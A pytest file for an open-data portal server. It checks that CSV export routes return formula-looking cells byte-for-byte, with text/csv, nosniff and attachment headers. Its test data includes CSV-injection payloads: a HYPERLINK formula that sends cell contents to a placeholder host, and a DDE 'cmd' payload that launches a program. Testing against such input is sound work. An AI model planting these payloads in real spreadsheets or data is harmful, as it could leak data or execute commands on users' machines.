"""CSV downloads serve cells that start with ``=``, ``+``, ``-`` or ``@`` exactly as stored, as Socrata does.

Decided (docs/settings.md, "CSV cells that look like formulas"): the CSV routes are data
interfaces (pulls, pandas, other portals' harvesters read them), so no cell is altered; a
spreadsheet that opens a download may evaluate such a cell as a formula, which the docs explain.
Every CSV route is checked, and that a browser is never led to render one: ``text/csv`` with
``nosniff``, and downloads as attachments.
"""

from __future__ import annotations

import csv
import io
import uuid
from collections.abc import Iterator

import pyarrow as pa
import pytest
import requests
from servers import mounted

from btvstat_open.server import create_app
from btvstat_open.store import Store
from btvstat_open.types import Column
from btvstat_open.web.settings import Settings

HTTP = requests.Session()  # reaches the site's app in process (see the site fixture)
CELLS = [
    "=1+2",
    '=HYPERLINK("https://example.invalid/?leak="&A1,"Click")',
    "+1",
    "-1",
    "@SUM(A1:A2)",
    "=cmd|' /C calc'!A0",
    "\t=1+2",
    "plain",
]


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, str]]:
    store = Store(tmp_path_factory.mktemp("formulas"))
    dataset_id = "formulas-" + uuid.uuid4().hex[:6]
    store.create(
        dataset_id, "Formula-looking cells", [Column("cell", "Cell", "text"), Column("n", "N", "number")]
    )
    store.replace(dataset_id, pa.table({"cell": CELLS, "n": [float(i) - 3 for i in range(len(CELLS))]}))
    with mounted(create_app(store, None, Settings()), HTTP) as url:
        yield url, dataset_id
    store.close()


@pytest.mark.parametrize(
    "path",
    [
        "/resource/{id}.csv?$order=n",
        "/api/views/{id}/rows.csv?accessType=DOWNLOAD",
        "/api/v3/views/{id}/export.csv",
        "/datasets/{id}.csv",
    ],
)
def test_formula_looking_cells_come_back_exactly(site: tuple[str, str], path: str) -> None:
    url, dataset_id = site
    response = HTTP.get(url + path.format(id=dataset_id), timeout=60)
    assert response.status_code == 200, response.text[:300]
    assert response.headers["content-type"].startswith("text/csv")
    assert response.headers["x-content-type-options"] == "nosniff"
    rows = list(csv.reader(io.StringIO(response.text)))
    header = [h.lower() for h in rows[0]]
    cell, n = header.index("cell"), header.index("n")
    by_n = sorted(rows[1:], key=lambda row: float(row[n]))  # exports are in :id order
    assert [row[cell] for row in by_n] == CELLS
    if "resource" not in path:
        assert response.headers["content-disposition"].startswith("attachment")
